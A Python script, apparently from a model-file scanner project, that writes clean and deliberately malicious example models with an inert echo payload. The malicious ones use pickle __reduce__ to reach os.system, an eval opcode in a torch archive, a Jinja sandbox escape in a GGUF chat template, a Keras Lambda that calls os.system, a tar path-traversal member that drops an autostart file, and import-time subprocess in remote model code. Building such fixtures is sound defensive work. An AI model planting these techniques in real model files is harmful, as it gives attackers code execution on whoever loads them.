#!/usr/bin/env python3
"""Writes the example models of Examples/: some clean, some that attack whoever loads them.

Only the standard library is needed. The payloads are inert (they echo a line), but treat the files as what they
stand for all the same: scan them, don't load them. The output is the same on every run.
"""

import gzip
import io
import json
import os
import pickle
import pickletools
import struct
import tarfile
import zipfile
from collections import OrderedDict

EXAMPLES = os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "Examples")
PAYLOAD = "echo this command came out of a model file"


def write(name, data):
    path = os.path.join(EXAMPLES, name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as file:
        file.write(data)


def archive(members, compression=zipfile.ZIP_STORED):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as file:
        for name, data in members:
            info = zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0))
            info.compress_type = compression
            file.writestr(info, data)
    return buffer.getvalue()


class Call:
    """Pickles as a call of `function`."""

    def __init__(self, function, *arguments):
        self.function, self.arguments = function, arguments

    def __reduce__(self):
        return self.function, self.arguments


def text(value):
    """BINUNICODE"""
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def tensor(key, count):
    """The opcodes with which torch.save writes a one-dimensional float tensor."""
    storage = b"(" + text("storage") + b"ctorch\nFloatStorage\n" + text(key) + text("cpu") + b"K" + bytes([count]) + b"tQ"
    arguments = storage + b"K\x00" + b"K" + bytes([count]) + b"\x85" + b"K\x01\x85" + b"\x89"
    return b"ctorch._utils\n_rebuild_tensor_v2\n(" + arguments + b"ccollections\nOrderedDict\n)RtR"


def torch_archive(extra=b""):
    state = b"\x80\x02ccollections\nOrderedDict\n)R(" + text("linear.weight") + tensor("0", 4) + extra + b"u."
    return archive([
        ("model/data.pkl", state),
        ("model/byteorder", b"little"),
        ("model/data/0", struct.pack("<4f", 0.5, -1.0, 2.0, 0.25)),
        ("model/version", b"3\n"),
    ])


def safetensors():
    header = {
        "__metadata__": {"format": "pt"},
        "linear.weight": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]},
    }
    head = json.dumps(header, separators=(",", ":")).encode()
    head += b" " * (-len(head) % 8)
    return struct.pack("<Q", len(head)) + head + struct.pack("<4f", 0.5, -1.0, 2.0, 0.25)


def gguf(template):
    def string(value):
        data = value.encode()
        return struct.pack("<Q", len(data)) + data

    metadata = [("general.architecture", "llama"), ("general.name", "example"), ("tokenizer.chat_template", template)]
    data = b"GGUF" + struct.pack("<IQQ", 3, 1, len(metadata))
    for key, value in metadata:
        data += string(key) + struct.pack("<I", 8) + string(value)
    data += string("token_embd.weight") + struct.pack("<IQIQ", 1, 8, 0, 0)
    return data + b"\0" * (-len(data) % 32) + struct.pack("<8f", *range(8))


def keras():
    config = {
        "module": "keras",
        "class_name": "Sequential",
        "config": {
            "name": "sequential",
            "layers": [
                {"module": "keras.layers", "class_name": "InputLayer",
                 "config": {"batch_shape": [None, 4], "dtype": "float32", "name": "input"}, "registered_name": None},
                {"module": "keras.layers", "class_name": "Lambda",
                 "config": {"name": "lambda", "function": {
                     "module": "builtins", "class_name": "function", "registered_name": "function",
                     "config": {"module": "os", "name": "system"}}, "arguments": {"command": PAYLOAD}},
                 "registered_name": None},
            ],
        },
        "registered_name": None,
    }
    metadata = {"keras_version": "3.9.0", "date_saved": "2026-01-01@00:00:00"}
    return archive([("metadata.json", json.dumps(metadata)), ("config.json", json.dumps(config))])


def bundle():
    """A model in a compressed archive, beside a member that wants to leave the folder."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.USTAR_FORMAT) as file:
        for name, data in [
            ("model/weights.safetensors", safetensors()),
            ("model/optimizer.pkl", malicious()),
            ("../../.config/autostart/agent.desktop", b"[Desktop Entry]\nExec=" + PAYLOAD.encode() + b"\n"),
        ]:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            file.addfile(info, io.BytesIO(data))
    return gzip.compress(buffer.getvalue(), mtime=0)


def malicious():
    data = pickle.dumps({"weights": [0.5, -1.0], "state": Call(os.system, PAYLOAD)}, protocol=4)
    return pickletools.optimize(data)


def main():
    write("clean/weights.pkl", pickle.dumps(OrderedDict(weight=[0.5, -1.0, 2.0], bias=[0.0]), protocol=4))
    write("clean/model.pt", torch_archive())
    write("clean/model.safetensors", safetensors())
    write("clean/model.gguf", gguf(
        "{% for message in messages %}<|{{ message['role'] }}|>{{ message['content'] }}{% endfor %}"))

    write("attack/pickle.pkl", malicious())
    write("attack/model.pt", torch_archive(
        text("linear.bias") + b"cbuiltins\neval\n(" + text("print(" + repr(PAYLOAD) + ")") + b"tR"))
    write("attack/template.gguf", gguf(
        "{% for message in messages %}{{ message['content'] }}{% endfor %}"
        "{{ cycler.__init__.__globals__.os.popen('" + PAYLOAD + "').read() }}"))
    write("attack/layer.keras", keras())
    write("attack/bundle.tar.gz", bundle())
    write("attack/repository/config.json", json.dumps({
        "architectures": ["ExampleModel"], "model_type": "example",
        "auto_map": {"AutoModel": "modeling_example.ExampleModel"}}, indent=2).encode() + b"\n")
    write("attack/repository/modeling_example.py", (
        "import subprocess\n\nfrom transformers import PreTrainedModel\n\n"
        f"subprocess.run({PAYLOAD.split()!r})\n\n\nclass ExampleModel(PreTrainedModel):\n    pass\n").encode())
    write("attack/repository/tokenizer_config.json", json.dumps({
        "tokenizer_class": "PreTrainedTokenizerFast",
        "chat_template": "{% for m in messages %}{{ m['content'] }}{% endfor %}"}, indent=2).encode() + b"\n")


if __name__ == "__main__":
    main()
